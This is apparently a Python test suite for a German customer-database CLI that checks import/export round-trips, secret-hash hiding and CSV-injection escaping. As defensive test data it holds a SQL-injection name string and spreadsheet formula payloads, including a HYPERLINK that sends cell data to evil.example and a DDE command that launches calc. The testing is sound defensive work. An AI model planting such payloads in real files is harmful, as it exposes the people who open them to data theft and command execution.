"""import -> show -> update -> export round-trips every field; create, delete."""
import csv
import json
import re
import sqlite3

import clitest
from clitest import EXPORT_COLUMNS

HASH = "$2y$10$SECRETSECRETSECRETSECRETuvwxyz0123456789abcdefghijkl"

FULL = {
    "number": "",
    "id": "R1",
    "external_source": "",
    "salutation": "Frau",
    "title": "Dr.",
    "first_name": "Erika",
    "last_name": "Mustermann-Lüdenscheidt",
    "company": "Müller & Söhne GmbH",
    "street": "Heidestraße 17b",
    "house_number": "",
    "address_addition": "c/o Meier, 2. OG",
    "postal_code": "51147",
    "city": "Köln",
    "state": "NRW",
    "country": "DE",
    "email": "erika@example.com",
    "phone": "+49 221 123456",
    "birth_date": "1964-08-12",
    "mobile": "0171 1234567",
    "fax": "0221 99999",
    "language": "de-AT",
    "b2b": "1",
    "vat_id": "DE123456789",
    "payment_terms": "30 Tage netto",
    "price_category": "B",
    "group": "Stammkunden",
    "newsletter": "1",
    "notes": 'Zeile 1\nZeile "2"; mit Semikolon, und Komma',
    "order_text": "Bitte klingeln",
    "login_user": "erika",
    "login_hash": HASH,
    "tags": "vip|newsletter 2024",
    "prop.loyalty": "gold",      # custom properties: prop.KEY
    "prop.shop.segment": "A",
}

SECOND = {
    "number": "K900001",
    "id": "S-9",
    "external_source": "shop",
    "first_name": "Jörg",
    "last_name": "O'Brien\"; DROP TABLE customers; --",
    "street": "Am Markt",
    "postal_code": "1010",
    "city": "Wien",
    "country": "AT",
    "email": "joerg@example.at",
}

HEADER = list(FULL.keys())


def row(d):
    return [d.get(k, "") for k in HEADER]


class RoundTrip(clitest.CliTest):
    def import_two(self):
        # A customer's group must exist (issue 6): the import refuses others.
        self.ok("groups", "add", FULL["group"])
        src = self.write_csv("in.csv", HEADER, [row(FULL), row(SECOND)])
        out = self.ok("import", src)
        self.assertIn("imported 2 customers, rejected 0 rows", out)

    def expected_first(self):
        exp = {k: v for k, v in FULL.items() if k != "login_hash"}
        # the consent's proof: it came with this import
        exp.update(number="K000001", external_source="import", street="Heidestraße", house_number="17b",
                   newsletter_source="import")
        return exp

    def assertNoSecret(self, text):
        self.assertNotIn("SECRETSECRET", text)

    def test_show_by_every_key(self):
        self.import_two()
        by_number = self.show_json("K000001")
        self.assertEqual(by_number, self.show_json("R1"))
        self.assertEqual(by_number, self.show_json("#%d" % by_number["id"]))
        self.assertEqual(by_number, self.show_json("import:R1"))
        second = self.show_json("K900001")
        self.assertEqual(second, self.show_json("shop:S-9"))
        # A bare id is an id of the import (or of no source).
        self.fails(1, "show", "S-9")
        self.assertEqual(second["last_name"], SECOND["last_name"])

    def test_show_has_every_field(self):
        self.import_two()
        c = self.show_json("K000001")
        exp = self.expected_first()
        for k in ("number", "salutation", "title", "first_name", "last_name", "company", "email",
                  "phone", "mobile", "fax", "birth_date", "language", "vat_id", "payment_terms",
                  "price_category", "group", "notes", "order_text", "login_user", "external_source"):
            self.assertEqual(c[k], exp[k], k)
        self.assertEqual(c["external_id"], "R1")
        self.assertIs(c["b2b"], True)
        self.assertIs(c["newsletter"], True)
        self.assertEqual(c["state"], "active")
        self.assertIs(c["has_password"], True)
        self.assertNotIn("login_hash", c)
        a = c["addresses"]
        self.assertEqual(len(a), 1)
        for k in ("street", "house_number", "address_addition", "postal_code", "city", "state", "country"):
            self.assertEqual(a[0][k], exp[k], k)
        self.assertEqual(c["tags"], ["vip", "newsletter 2024"])
        self.assertEqual(c["properties"], {"loyalty": "gold", "shop.segment": "A"})

        text = self.ok("show", "K000001")
        self.assertNoSecret(text)
        self.assertIn("Mustermann-Lüdenscheidt", text)
        self.assertRegex(text, r"has_password\s+yes")

    def test_update_then_export(self):
        self.import_two()
        out = self.ok("update", "R1", "email=neu@example.de", "street=Neue Straße 5",
                      "city=Bonn", "postal_code=53111", "tags=a|b", "prop.loyalty=", "prop.x.y=z",
                      "notes=eins\nzwei", "title=", "order_text=Mit \"Anführung\"; und ,")
        self.assertIn("updated K000001", out)
        c = self.show_json("K000001")
        self.assertEqual(c["revision"], 2)
        self.assertEqual(c["email"], "neu@example.de")
        self.assertNotIn("title", c)
        self.assertEqual(c["addresses"][0]["street"], "Neue Straße")
        self.assertEqual(c["addresses"][0]["house_number"], "5")
        self.assertEqual(c["tags"], ["a", "b"])
        self.assertEqual(c["properties"], {"shop.segment": "A", "x.y": "z"})

        exp = self.expected_first()
        exp.update(email="neu@example.de", street="Neue Straße", house_number="5", city="Bonn",
                   postal_code="53111", tags="a|b", notes="eins\nzwei", title="",
                   order_text='Mit "Anführung"; und ,')
        del exp["prop.loyalty"]
        exp["prop.x.y"] = "z"
        # the consent's time as the import stamped it
        exp["newsletter_at"] = str(c["newsletter_at"])

        text = self.ok("export")
        self.assertNoSecret(text)
        rows = self.read_csv(text)
        header = text.split("\n", 1)[0].split(",")
        self.assertEqual(header, EXPORT_COLUMNS + ["prop.shop.segment", "prop.x.y"])
        self.assertEqual(len(rows), 2)
        first = rows[0]
        for k in header:
            want = exp.get(k, "")
            if want[:1] in ("=", "+", "-", "@", "\t", "\r"):
                want = "'" + want  # a formula to a spreadsheet: as text
            self.assertEqual(first[k], want, k)
        # --raw: every value as stored
        raw = self.read_csv(self.ok("export", "--raw"))[0]
        for k in header:
            self.assertEqual(raw[k], exp.get(k, ""), k)
        second = rows[1]
        for k in header:
            want = SECOND.get(k, "")
            if k == "street":
                want = "Am Markt"
            if k == "group":
                want = FULL["group"]  # the default group: the first one made
            self.assertEqual(second[k], want, k)

    def test_export_imports_again_unchanged(self):
        self.import_two()
        self.ok("update", "K000001", "first_name=Erika Maria")
        first = self.ok("export")
        self.write_bytes("export.csv", first.encode("utf-8"))
        other = self.path("other.db")
        self.ok("--db", other, "groups", "add", FULL["group"], db=False)
        r = self.ok("--db", other, "import", self.path("export.csv"), db=False)
        self.assertIn("imported 2 customers, rejected 0 rows", r)
        again = self.ok("--db", other, "export", db=False)
        self.assertEqual(first, again)
        # The JSON of both databases agrees too, but for ids, timestamps and
        # the password hash, which no export gives out.  The consent's time
        # is the same: the import carries it in (newsletter_at).
        def strip(cs):
            for c in cs:
                for k in ("id", "created_at", "updated_at", "revision", "has_password"):
                    c.pop(k, None)
            return cs
        mine = strip(self.export_json())
        self.assertIsInstance(mine[0]["newsletter_at"], int)
        self.assertEqual(mine, strip(json.loads(self.ok("--db", other, "export", "--format", "json", db=False))))

    def test_formulas_are_text_in_exports_and_rejects(self):
        """Issue 13, defect 6 (OWASP CSV injection): exports and the rejects
        file write values a spreadsheet would run as formulas with a ' in
        front; --raw writes them as they are; import takes the ' off again."""
        evil = {"last_name": '=HYPERLINK("http://evil.example/?"&A1,"Rechnung")',
                "first_name": "=cmd|' /C calc'!A0", "company": "+SUM(1)", "notes": "@SUM(A1:A9)",
                "order_text": "-2+3", "title": "'=schon Text"}
        src = self.write_csv("evil.csv", ["id"] + list(evil) + ["email"],
                             [["e1"] + list(evil.values()) + ["e1@example.de"],
                              ["e2"] + list(evil.values()) + ["kaputt"]])
        self.fails(1, "import", src)  # e2 is rejected for its email
        with open(self.path("evil.rejects.csv"), encoding="utf-8", newline="") as f:
            rejected = list(csv.reader(f))
        text = self.ok("export")
        exported = self.read_csv(text)[0]
        for cells in (rejected[1][3:9], [exported[k] for k in evil]):
            for cell in cells:
                self.assertFalse(cell[:1] in ("=", "+", "-", "@", "\t", "\r"), cell)
        # as imported (the ' of '=schon Text came off, as the man page says) ...
        stored = self.show_json("e1")
        self.assertEqual(stored["title"], "=schon Text")
        raw = self.read_csv(self.ok("export", "--raw"))[0]
        for k in evil:
            self.assertEqual(exported[k], "'" + stored[k])
            self.assertEqual(raw[k], stored[k])
        # ... and an export imports again to the same values
        self.write_bytes("again.csv", text.encode("utf-8"))
        other = self.path("other.db")
        self.ok("--db", other, "import", self.path("again.csv"), db=False)
        again = json.loads(self.ok("--db", other, "show", "e1", "--json", db=False))
        for k in evil:
            self.assertEqual(again[k], stored[k], k)
        # --raw on import keeps the ' and writes rejects as they are
        raw_src = self.write_csv("raw.csv", ["id", "last_name", "email"], [["r1", "'=x", "r1@example.de"],
                                                                          ["r2", "=y", "kaputt"]])
        self.fails(1, "import", "--raw", raw_src)
        self.assertEqual(self.show_json("r1")["last_name"], "'=x")
        with open(self.path("raw.rejects.csv"), encoding="utf-8", newline="") as f:
            self.assertEqual(list(csv.reader(f))[1][3], "=y")

    def test_unreadable_row_is_reported_and_left_out(self):
        """Issue 13, defect 8: a row another program wrote with invalid UTF-8
        stopped export half-way (JSON cut short) and list; now it is named on
        stderr, left out, the output is whole, and the exit status is 1."""
        for n in ("Anna", "Bert", "Cora"):
            self.ok("create", "last_name=" + n)
        con = sqlite3.connect(self.db)
        con.execute("UPDATE patron_customers SET last_name = CAST(X'42FF65' AS TEXT) WHERE id = 2")
        con.commit()
        con.close()
        for args in (["export", "--format", "json"], ["export"], ["list"], ["list", "--json"]):
            r = self.run_cli(*args)
            self.assertEqual(r.returncode, 1, args)
            err = r.stderr.decode()
            self.assertIn("patron: customer #2 skipped", err)
            self.assertIn("not valid UTF-8", err)
            self.assertTrue(err.endswith("patron: 1 customer could not be read and was left out (see above)\n"),
                            err)
            out = r.stdout.decode("utf-8")  # well-formed UTF-8
            if "--json" in args or "json" in args:
                self.assertEqual([c["last_name"] for c in json.loads(out)], ["Anna", "Cora"])
            elif args == ["export"]:
                self.assertEqual([c["last_name"] for c in self.read_csv(out)], ["Anna", "Cora"])
            else:
                self.assertEqual(len(out.splitlines()), 2)

    def test_export_to_file_and_json(self):
        self.import_two()
        self.ok("export", "--out", self.path("out.csv"))
        self.assertEqual(len(self.read_csv(self.path("out.csv"))), 2)
        self.ok("export", "--format=json", "--out", self.path("out.json"))
        with open(self.path("out.json"), encoding="utf-8") as f:
            text = f.read()
        self.assertNoSecret(text)
        data = json.loads(text)
        self.assertEqual([c["number"] for c in data], ["K000001", "K900001"])
        for c in data:
            for k in c:
                self.assertRegex(k, r"^[a-z][a-z0-9_]*$")
            for a in c.get("addresses", []):
                for k in a:
                    self.assertRegex(k, r"^[a-z][a-z0-9_]*$")
            self.assertNotIn("login_hash", c)
        self.assertIs(data[0]["has_password"], True)

    def test_list(self):
        self.import_two()
        lines = self.ok("list").splitlines()
        self.assertEqual(len(lines), 2)
        self.assertEqual(lines[0].split("\t")[:2], ["K000001", "active"])
        self.assertIn("51147 Köln", lines[0])
        data = json.loads(self.ok("list", "--json"))
        self.assertEqual(len(data), 2)
        self.assertEqual(json.loads(self.ok("list", "--active", "--json")), data)
        self.assertEqual(json.loads(self.ok("list", "--pending", "--json")), [])
        self.assertEqual(self.ok("list", "--locked"), "")
        self.assertNoSecret(self.ok("list", "--json"))

    def test_create_update_delete(self):
        num = self.ok("create", "first_name=Max", "last_name=Mustermann",
                      "street=Hauptstraße 12 a", "postal_code=10115", "city=Berlin",
                      "email=max@example.com", "id=M1", "tags=x|y", "prop.color=blue").strip()
        self.assertRegex(num, r"^K\d{6}$")
        c = self.show_json(num)
        self.assertEqual(c["addresses"][0]["street"], "Hauptstraße")
        self.assertEqual(c["addresses"][0]["house_number"], "12 a")
        self.assertEqual(c["addresses"][0]["country"], "DE")
        self.assertEqual(c["properties"], {"color": "blue"})
        self.assertEqual(c["external_id"], "M1")
        self.assertEqual(self.show_json("M1")["number"], num)

        self.ok("update", num, "country=AT", "house_number=14")
        c = self.show_json(num)
        self.assertEqual((c["addresses"][0]["street"], c["addresses"][0]["house_number"],
                          c["addresses"][0]["country"]), ("Hauptstraße", "14", "AT"))

        self.assertIn("deleted " + num, self.ok("delete", "M1"))
        err = self.fails(1, "show", num)
        self.assertIn("no customer", err)
        num2 = self.ok("create", "last_name=Neu").strip()
        self.assertNotEqual(num2, num)
        self.assertGreater(num2, num)

    def test_refused_values(self):
        err = self.fails(1, "create", "last_name=X", "email=kaputt")
        self.assertIn("email", err)
        self.fails(1, "create", "last_name=X", "birth_date=1980-02-30")
        self.fails(1, "create", "last_name=X", "created_at=1")
        self.fails(1, "create", "last_name=X", "bad key=1")
        self.ok("create", "last_name=Y", "id=A")
        self.fails(1, "create", "last_name=Z", "id=A")
        self.fails(1, "update", "A", "number=K123456")
        # Nothing half-saved.
        self.assertEqual(len(self.export_csv()), 1)
        self.assertEqual(self.show_json("A")["revision"], 1)


if __name__ == "__main__":
    clitest.main()
